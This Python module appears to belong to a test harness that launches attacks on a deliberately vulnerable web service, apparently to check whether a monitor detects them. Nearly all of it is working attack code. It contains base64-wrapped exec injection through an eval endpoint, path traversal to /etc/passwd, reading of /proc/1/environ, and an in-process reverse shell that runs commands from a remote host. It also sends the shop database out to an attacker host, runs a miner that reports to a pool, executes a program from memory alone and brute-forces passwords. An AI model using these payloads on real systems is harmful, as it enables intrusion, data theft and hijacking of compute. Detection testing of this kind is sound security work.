"""Break-ins into the python service, most of them by its eval."""

import base64
import random
import urllib.parse

from .attacker import Home
from .base import Attack, AttackFailed, Instance
from .http_client import Browser, fetch, must_show

SERVER = "process /usr/bin/python3.11"


def _run(instance: Instance, code: str) -> tuple[int, bytes]:
    """Runs statements in the service; what it answers is the variable `result`."""
    packed = base64.b64encode(code.encode()).decode()
    term = f"(lambda names: (exec(__import__('base64').b64decode('{packed}'), names), names.get('result'))[1])({{}})"
    status, content = fetch(instance.port, "/calc?" + urllib.parse.urlencode({"x": term}))
    if status != 200:
        raise AttackFailed(f"status {status}, {content[:80]!r}")
    return status, content


def run_program(instance: Instance) -> None:
    must_show(_run(instance, "import subprocess\nresult = subprocess.check_output(['id'])"), b"uid=0")


def traverse(instance: Instance) -> None:
    must_show(fetch(instance.port, "/files?name=../../etc/passwd"), b"root:x:0")


def read_environment(instance: Instance) -> None:
    must_show(_run(instance, "result = open('/proc/1/environ').read()"), b"BACKEND")


def reverse_shell(instance: Instance) -> None:
    with Home(b"open('/etc/passwd').read()\n") as home:
        _run(instance, f"""
import os, socket, threading
def serve():
    link = socket.create_connection(('{home.host}', {home.port}))
    os.dup2(link.fileno(), 0)
    for command in os.fdopen(os.dup(0)):
        os.write(0, eval(command).encode() + b'END\\n')
threading.Thread(target=serve, daemon=True).start()
""")
        home.must_receive(b"root:x:0")


def send_out(instance: Instance) -> None:
    """Within the event loop, by the calls that /rates makes, and by the reads of /files."""
    with Home() as home:
        _run(instance, f"""
import asyncio
async def send():
    with open('/srv/data/shop.db', 'rb') as file:
        data = file.read()
    reader, writer = await asyncio.open_connection('{home.host}', {home.port})
    writer.write(data)
    writer.close()
keep = asyncio.get_running_loop().create_task(send())
import builtins
builtins.kept = keep
""")
        home.must_receive(b"SQLite format 3")


def trace_process(instance: Instance) -> None:
    code = "import ctypes\nresult = ctypes.CDLL(None).ptrace(16, 999999, 0, 0)"  # PTRACE_ATTACH, nobody there
    must_show(_run(instance, code), b"-1")


def run_from_memory(instance: Instance) -> None:
    must_show(_run(instance, """
import os
made = os.memfd_create('x')
with open('/bin/ls', 'rb') as file:
    os.write(made, file.read())
child = os.fork()
if child == 0:
    os.execve(made, ['ls', '/'], {})
result = os.waitpid(child, 0)[1]
"""), b"0")


def mine(instance: Instance) -> None:
    """Computes for two seconds in a thread of its own and tells a pool the shares."""
    with Home() as home:
        _run(instance, f"""
import hashlib, socket, threading, time
def work():
    pool = socket.create_connection(('{home.host}', {home.port}))
    end = time.monotonic() + 2
    number = 0
    while time.monotonic() < end:
        number += 1
        if hashlib.sha256(b'%d' % number).digest()[:2] == b'\\0\\0':
            pool.sendall(b'share %d\\n' % number)
    pool.close()
threading.Thread(target=work, daemon=True).start()
""")
        home.must_receive(b"share")


def use_io_uring(instance: Instance) -> None:
    _run(instance, "import ctypes\nlibc = ctypes.CDLL(None)\n"
                   "result = libc.syscall(425, 8, ctypes.create_string_buffer(120))")


def guess_passwords(instance: Instance) -> None:
    with Browser(instance.port, random.Random(3)) as browser:
        for number in range(1000):
            status, _ = browser.post("/login", {"name": "ann", "password": f"guess{number}"})
            if status != 403:
                raise AttackFailed(f"status {status}")


ATTACKS = (
    Attack("eval, program", "runs id", run_program, ("/usr/bin/id",), reliable=True),
    Attack("eval, memfd_create", "runs a program that is in memory alone", run_from_memory, ("memfd",), reliable=True),
    Attack("eval, ptrace", "one call of ptrace", trace_process, ("ptrace",)),
    Attack("eval, io_uring", "one call of io_uring_setup", use_io_uring, ("io_uring",)),
    Attack("reverse shell in process", "dup2 and eval of what a remote host says; no new program", reverse_shell,
           (SERVER,)),
    Attack("miner", "computes in a thread and tells a pool; no new program", mine, (SERVER,)),
    Attack("data sent out", "the database goes to another address; no new program, no new call", send_out, (SERVER,)),
    Attack("path traversal", "/files reads /etc/passwd; no new program, no new call", traverse,
           ("/etc/passwd", SERVER)),
    Attack("/proc/1/environ", "eval reads the environment of process 1", read_environment, (SERVER,)),
    Attack("password guessing", "1000 wrong passwords for one user", guess_passwords, (SERVER,)),
)
